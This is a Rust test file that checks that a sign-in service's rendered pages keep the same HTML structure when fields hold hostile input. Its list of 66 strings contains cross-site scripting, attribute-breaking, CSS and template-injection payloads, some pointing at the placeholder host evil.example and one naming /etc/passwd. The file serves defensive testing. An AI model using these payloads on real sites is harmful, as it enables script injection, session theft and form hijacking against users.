//! What a team writes stays text, whatever it is: every page of a hostile project has the shape of a benign one's.

use lambda_http::{Body, http::StatusCode};
use smartaccess::{
    http::{Page, Reply},
    model::Colour,
    types::{Channel, Language},
};

use super::{
    AddressPage, Brand, By, CodePage, Frame, LinkPage, Message, MessagePage, PhoneForm, brand::Shown, problem::Opening,
};

const HOSTILE: [&str; 66] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<script\u{0}>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<form action=//evil.example/><input name=email>",
    "<button formaction=//evil.example/>Continue</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<x contenteditable onblur=alert(1)>",
    "<!--",
    "--><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=`alert(1)",
    "\" style=\"position:fixed;inset:0",
    "\"/><base href=\"//evil.example/",
    "x\" class=\"picture\" src=\"//evil.example/pixel.png",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "#fff;}</style><script>alert(1)</script>",
    "#ffffff;background:url(//evil.example/)",
    "red;--ground:url(//evil.example/)",
    "expression(alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{% include \"/etc/passwd\" %}",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\u{202e}<script>alert(1)</script>\u{2028}\u{0b}",
];

/// Every page with this in the place of all that a team can write, without pictures and with them.
fn pages(text: &str) -> Vec<String> {
    let picture = |src: &str| Some(Shown { src: src.to_owned(), alt: text.to_owned(), width: 4, height: 3 });
    let brand = Brand { logo: picture("/assets/logo"), image: picture("/assets/image"), ..Brand::PLAIN };
    [pages_of_look(text, &Brand::PLAIN), pages_of_look(text, &brand)].concat()
}

fn pages_of_look(text: &str, brand: &Brand) -> [String; 4] {
    let frame = Frame { project: text, brand, ..Frame::plain(Language::En) };
    let address = Page::render(StatusCode::OK, |nonce| AddressPage {
        frame,
        nonce: nonce.clone(),
        application: text,
        send: "/send",
        page: "/page?interaction=int",
        form_token: "token",
        ways: &[By::Email, By::Phone],
        by: By::Phone,
        email: text,
        phone: PhoneForm { number: text, channels: vec![Channel::Sms, Channel::Whatsapp], ..PhoneForm::default() },
        problem: None,
        puzzle: None,
    });
    let code = Page::render(StatusCode::OK, |nonce| CodePage {
        frame,
        nonce: nonce.clone(),
        application: text,
        verify: "/verify",
        send: "/send",
        change: "/change",
        form_token: "token",
        ways: &[By::Email, By::Phone],
        address: text,
        channel: Channel::Whatsapp,
        went_on: None,
        channels: &[Channel::Sms, Channel::Whatsapp],
        chosen: None,
        digits: 6,
        code: text,
        resend_in: 0,
        number: None,
        page: "/page",
        renewed: false,
        problem: None,
        puzzle: None,
    });
    let link = Page::render(StatusCode::OK, |nonce| LinkPage {
        frame,
        nonce: nonce.clone(),
        application: text,
        asked_at: Opening::SAMPLE,
        device: text,
        press: "/press",
        token: "token",
        asks_for_number: true,
        problem: None,
        puzzle: None,
    });
    let message = Page::render(StatusCode::OK, |nonce| MessagePage {
        frame,
        nonce: nonce.clone(),
        message: Message::Done,
        link: Some("/app"),
        form: None,
    });
    [address, code, link, message].map(|page| match page.unwrap().into_answer().unwrap().into_body() {
        Body::Text(html) => html,
        _ => unreachable!("a page is text"),
    })
}

/// The tags of a document in their order, each with the names of its attributes, and the values of those that a browser
/// acts on (HTML, 13.2.5: tags, attributes in quotes, and nothing that our templates do not write).
fn shape(html: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some((_, behind)) = rest.split_once('<') {
        let (mut tag, mut quoted, mut end) = (String::new(), false, behind.len());
        for (place, char) in behind.char_indices() {
            match char {
                '"' => quoted = !quoted,
                '>' if !quoted => {
                    end = place;
                    break;
                }
                _ => {}
            }
            tag.push(char);
        }
        tags.push(acted_on(&tag));
        rest = &behind[end..];
    }
    tags
}

fn acted_on(tag: &str) -> String {
    let parts: Vec<&str> = tag.split('"').collect();
    let is_inert = |name: &str| {
        ["alt=", "value=", "data-with-script=", "content=", "nonce="].iter().any(|inert| name.ends_with(inert))
    };
    let shown = parts.iter().enumerate().map(|(index, part)| match index % 2 {
        1 if is_inert(parts[index - 1]) => "…",
        _ => part,
    });
    shown.collect::<Vec<_>>().join("\"")
}

#[test]
fn whatever_a_team_writes_is_text() {
    let benign: Vec<_> = pages("Aurora").iter().map(|html| shape(html)).collect();
    assert!(benign.iter().all(|tags| tags.len() > 15));
    for text in HOSTILE {
        let shapes: Vec<_> = pages(text).iter().map(|html| shape(html)).collect();
        assert_eq!(shapes, benign, "{text}");
    }
}

#[test]
fn nothing_but_a_colour_is_a_colour() {
    for text in HOSTILE {
        assert!(text.parse::<Colour>().is_err(), "{text}");
    }
}

#[test]
fn the_shape_tells_a_page_that_was_broken_into() {
    let shapes = [
        shape(r#"<p><img alt="Aurora" src="/a"></p>"#),
        shape(r#"<p><img alt="Aurora" src="/a" onerror="alert(1)"></p>"#),
        shape(r#"<p><img alt="Aurora" src="//evil.example/"></p>"#),
        shape(r#"<p><script>alert(1)</script><img alt="Aurora" src="/a"></p>"#),
    ];
    assert!(shapes.iter().skip(1).all(|broken| broken != &shapes[0]));
    assert_eq!(shape(r#"<p><img alt="&#60;b&#62;" src="/a"></p>"#), shapes[0], "what is text makes no difference");
}
